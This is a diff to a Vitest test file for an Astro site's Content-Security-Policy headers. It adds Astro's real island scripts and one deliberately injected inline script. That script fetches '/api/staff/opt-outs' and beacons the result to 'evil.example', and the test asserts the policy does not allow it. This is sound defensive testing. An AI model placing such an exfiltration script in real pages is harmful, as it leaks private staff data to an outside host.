@@ -2,6 +2,8 @@ import { createHash } from 'node:crypto';
 import { mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { dirname, join } from 'node:path';
+import idle from 'astro/client/idle.prebuilt.js';
+import island from 'astro/runtime/server/astro-island.prebuilt.js';
 import { createElement } from 'react';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { productionBackend } from '../../src/admin/cms-config.ts';
@@ -18,10 +20,12 @@ import { headersForPath, parseHeadersFile } from '../platform/cdn.ts';
  * Netlify configuration the build and netlify.toml give the same files.
  */
 
-const island = 'document.querySelector("astro-island")?.setAttribute("ready", "")';
-const idle = 'window.addEventListener("load", () => {})';
+// Astro's own island scripts, as it writes them into pages; and one that reached a page another way
+// (raw HTML in Markdown, or the CMS): the policy must not allow that one.
+const injected =
+  'fetch("/api/staff/opt-outs").then((r) => r.text()).then((t) => navigator.sendBeacon("//evil.example", t))';
 const files: Record<string, string> = {
-  'index.html': `<!doctype html><html><head><script type="application/ld+json">{"@type":"FAQPage"}</script></head><body><h1>Home</h1><script>${island}</script><script type="module">${idle}</script><script type="module" src="/_astro/a.js"></script></body></html>`,
+  'index.html': `<!doctype html><html><head><script type="application/ld+json">{"@type":"FAQPage"}</script></head><body><h1>Home</h1><script>${island}</script><script>${idle}</script><script>${injected}</script><script type="module" src="/_astro/a.js"></script></body></html>`,
   'plain/index.html': '<!doctype html><html><body><h1>No scripts</h1></body></html>',
   'admin/index.html': '<!doctype html><html><body><script type="module" src="/_astro/cms.js"></script></body></html>',
   '404.html': '<!doctype html><html><body><h1>Page not found</h1></body></html>',
@@ -93,6 +97,7 @@ describe('security headers from the local server', () => {
     const response = await app.request('/');
     expectCommon(response);
     expect(scriptSources(response)).toEqual(["'self'", sha(island), sha(idle)].sort());
+    expect(policyOf(response)).not.toContain(sha(injected));
     expect(policyOf(response)).toContain("object-src 'none'");
     expect(policyOf(response)).toContain('report-uri /api/csp-report');
     expect(response.headers.get('Cross-Origin-Opener-Policy')).toBe('same-origin');
